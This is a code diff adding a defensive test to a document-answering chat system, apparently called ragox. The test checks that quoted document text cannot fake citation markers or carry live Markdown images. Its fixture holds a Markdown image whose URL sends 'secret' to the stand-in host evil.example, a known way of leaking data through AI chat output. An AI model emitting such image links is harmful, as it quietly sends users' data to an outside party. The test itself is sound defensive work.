@@ -388,6 +388,29 @@ def test_a_model_translation_is_withheld_and_redacted_with_the_answer(
     assert stored is not None and "4711" not in json.dumps(stored)
 
 
+def test_chat_content_links_only_its_own_markers_and_loads_no_image(app: Ragox) -> None:
+    """The chat route's content: a "[1]" of the document's own reads "［1］" (the route's
+    markers are "[1]", "[2]"), and a Markdown image in the quoted text is escaped, so a
+    front end neither links the one nor loads the other unasked (before: both as written)."""
+    from ragox.api._chat import _cited
+
+    _doc(
+        app,
+        "rules",
+        "The safety rule [1] says the valve is closed weekly; "
+        "see ![chart](http://evil.example/c?d=secret).\n",
+    )
+    record = app.ask("How often is the valve closed?", STAFF)
+    assert record.claims and "[1] says" in record.claims[0].text
+    content, annotations = _cited(record, "/view/anchors/")
+    assert re.findall(r"\[(\d+)\]", content) == [str(a["ragox"]["number"]) for a in annotations]
+    assert "\uff3b1\uff3d says" in content
+    assert "![" not in content and "!\\[chart]" in content
+    for note in annotations:  # each link still points at its own marker
+        where = note["url_citation"]
+        assert content[where["start_index"] : where["end_index"]] == f"[{note['ragox']['number']}]"
+
+
 def test_access_revocation_and_revisions(app: Ragox) -> None:
     """Outsiders get no text; after revocation `answer show` withholds ACCESS_DENIED claims;
     after an update new answers cite the new revision and old citations are not current."""
